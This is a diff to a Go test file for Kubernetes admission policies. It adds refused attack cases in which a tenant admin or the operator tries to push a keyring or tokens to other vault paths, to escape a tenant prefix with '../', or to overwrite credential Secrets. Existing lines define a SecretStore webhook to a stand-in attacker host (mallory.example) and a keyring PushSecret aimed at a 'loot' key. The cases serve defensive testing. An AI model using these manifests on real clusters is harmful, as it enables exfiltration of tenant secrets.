@@ -2,6 +2,7 @@ package admission
 
 import (
 	"context"
+	"encoding/base64"
 	"strings"
 	"testing"
 	"time"
@@ -196,6 +197,9 @@ func attacks() map[string]attack {
 		// operatorWrites follows what the operator-data policy refuses.
 		operatorWrites = "may be written only by the tenantwire operator, not by mallory"
 		outOfReach     = "the operator writes only in tenant-* namespaces and tenantwire-system"
+		pushRefused    = "may only push the refresh_token keys of a *-rotated-token Secret, to a named store, as property refresh_token of a key under the tenant path prefix tenants/acme/"
+		// operatorSecrets follows what the reach policy refuses of the operator's Secret writes.
+		operatorSecrets = "the operator writes only the keyring and empty *-rotated-token Secrets"
 	)
 	connect := func(subresource string) attack {
 		return attack{attempt: attempt{as: mallory, do: func(ctx context.Context, id identity, _ string) error {
@@ -354,13 +358,54 @@ func attacks() map[string]attack {
 				"data":           []any{map[string]any{"secretKey": "apiKey", "remoteRef": map[string]any{"key": "tenants/other-practice/cerbo"}}},
 			})
 		}),
-		"PushSecret sending the keyring to a vault": create(mallory, workloadsPolicy, "pushsecrets may not be created or changed in tenant namespace tenant-acme", func(suffix string) client.Object {
+		"PushSecret sending the keyring to a vault": create(mallory, workloadsPolicy, "pushsecrets in tenant namespace tenant-acme "+operatorOnly, func(suffix string) client.Object {
 			return eso("v1alpha1", "PushSecret", "steal"+suffix, map[string]any{
 				"secretStoreRefs": []any{map[string]any{"kind": "SecretStore", "name": "mallory-vault"}},
 				"selector":        map[string]any{"secret": map[string]any{"name": keyring.SecretName}},
 				"data":            []any{map[string]any{"match": map[string]any{"secretKey": keyring.DataKey, "remoteRef": map[string]any{"remoteKey": "loot"}}}},
 			})
 		}),
+		// The operator's own PushSecret, from a tenant admin: it would overwrite the practice's
+		// vault credentials with a token of hers.
+		"PushSecret shaped like the operator's, from a tenant admin": create(mallory, workloadsPolicy, "pushsecrets in tenant namespace tenant-acme "+operatorOnly,
+			func(suffix string) client.Object {
+				return rotatedTokenPushSecret("mallory"+suffix, rotatedTokenSecret, "tenants/acme/quickbooks/oauth")
+			}),
+		// The operator pushes rotated refresh tokens only, and only under the tenant's prefix.
+		"operator: PushSecret to another tenant's vault path": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
+			return rotatedTokenPushSecret("other"+suffix, rotatedTokenSecret, "tenants/other-practice/quickbooks/oauth")
+		}),
+		"operator: PushSecret climbing out of the tenant's prefix": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
+			return rotatedTokenPushSecret("climb"+suffix, rotatedTokenSecret, "tenants/acme/../other-practice/quickbooks/oauth")
+		}),
+		"operator: PushSecret of the keyring": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
+			ps := rotatedTokenPushSecret("keyring"+suffix, keyring.SecretName, "tenants/acme/quickbooks/oauth")
+			data := ps.Object["spec"].(map[string]any)["data"].([]any)
+			data[0].(map[string]any)["match"].(map[string]any)["secretKey"] = keyring.DataKey
+			return ps
+		}),
+		"operator: PushSecret of a rotated-token Secret's other keys": create(operatorUser, workloadsPolicy, pushRefused, func(suffix string) client.Object {
+			ps := rotatedTokenPushSecret("whole"+suffix, rotatedTokenSecret, "tenants/acme/quickbooks/oauth")
+			delete(ps.Object["spec"].(map[string]any), "data")
+			return ps
+		}),
+		// RBAC lets the operator write Secrets of any name (a rotated-token Secret is named for its
+		// Integration); the reach policy keeps it to empty *-rotated-token Secrets and the keyring.
+		"operator: Secret of another name": create(operatorUser, reachPolicy, operatorSecrets, func(suffix string) client.Object {
+			return &corev1.Secret{ObjectMeta: meta("loot" + suffix)}
+		}),
+		"operator: rotated-token Secret with data of its own": create(operatorUser, reachPolicy, operatorSecrets, func(suffix string) client.Object {
+			return &corev1.Secret{ObjectMeta: meta("planted" + suffix + "-rotated-token"),
+				Data: map[string][]byte{"destination.refresh_token": []byte("operator-chosen")}}
+		}),
+		"operator: overwrite the token writer's token": {attempt: attempt{as: operatorUser, do: func(ctx context.Context, id identity, suffix string) error {
+			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(rotatedTokenSecret)}, client.RawPatch(types.MergePatchType,
+				[]byte(`{"data":{"destination.refresh_token":"`+base64.StdEncoding.EncodeToString([]byte("operator"+suffix))+`"}}`)))
+		}}, policy: reachPolicy, message: operatorSecrets},
+		"operator: credential Secret overwritten": {attempt: attempt{as: operatorUser, do: func(ctx context.Context, id identity, suffix string) error {
+			return id.c.Patch(ctx, &corev1.Secret{ObjectMeta: meta(credentialSecret)}, client.RawPatch(types.MergePatchType,
+				[]byte(`{"data":{"apiKey":"`+base64.StdEncoding.EncodeToString([]byte("operator"+suffix))+`"}}`)))
+		}}, policy: reachPolicy, message: operatorSecrets},
 		"SecretStore of mallory's": create(mallory, workloadsPolicy, "secretstores in tenant namespace tenant-acme may be created or changed only by the tenantwire operator or by someone who may create clustersecretstores", func(suffix string) client.Object {
 			return eso("v1", "SecretStore", "mallory-vault"+suffix, map[string]any{
 				"provider": map[string]any{"webhook": map[string]any{"url": "https://mallory.example/{{ .remoteRef.key }}",
@@ -425,6 +470,17 @@ func allowed() map[string]attempt {
 		})),
 		"operator creates a NetworkPolicy": create(operatorUser, &networkingv1.NetworkPolicy{ObjectMeta: meta("op"),
 			Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeEgress}}}),
+		"operator creates its PushSecret of rotated tokens": create(operatorUser,
+			rotatedTokenPushSecret("op", rotatedTokenSecret, "tenants/acme/quickbooks/oauth")),
+		"operator creates an empty rotated-token Secret": create(operatorUser, &corev1.Secret{ObjectMeta: meta("op-rotated-token")}),
+		// Its own, created first: the attempts run in no particular order.
+		"operator deletes a rotated-token Secret": {as: operatorUser, do: func(ctx context.Context, id identity, _ string) error {
+			secret := &corev1.Secret{ObjectMeta: meta("gone-rotated-token")}
+			if err := id.c.Create(ctx, secret); err != nil {
+				return err
+			}
+			return id.c.Delete(ctx, secret)
+		}},
 		"operator creates a tenant Namespace": create(operatorUser, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "tenant-newco"}}),
 		// The operator's grant on the keyring is create, patch and delete (never update).
 		"operator patches the keyring": {as: operatorUser, do: func(ctx context.Context, id identity, _ string) error {
@@ -535,6 +591,19 @@ func jobSpec() batchv1.JobSpec {
 // syncWorkload is the operator's sync Deployment, created before the policies exist.
 func syncWorkload() *appsv1.Deployment {
 	return &appsv1.Deployment{ObjectMeta: meta(syncDeployment), Spec: appsv1.DeploymentSpec{Selector: selector(), Template: stealingTemplate()}}
+}
+
+// rotatedTokenPushSecret is a PushSecret as the operator builds one: the destination's rotated
+// refresh token, from the given Secret, to the given vault key.
+func rotatedTokenPushSecret(name, secret, remoteKey string) *unstructured.Unstructured {
+	return eso("v1alpha1", "PushSecret", name, map[string]any{
+		"secretStoreRefs": []any{map[string]any{"kind": "ClusterSecretStore", "name": "tenant-vault"}},
+		"updatePolicy":    "Replace",
+		"deletionPolicy":  "None",
+		"selector":        map[string]any{"secret": map[string]any{"name": secret}},
+		"data": []any{map[string]any{"match": map[string]any{"secretKey": "destination.refresh_token",
+			"remoteRef": map[string]any{"remoteKey": remoteKey, "property": "refresh_token"}}}},
+	})
 }
 
 func eso(version, kind, name string, spec map[string]any) *unstructured.Unstructured {
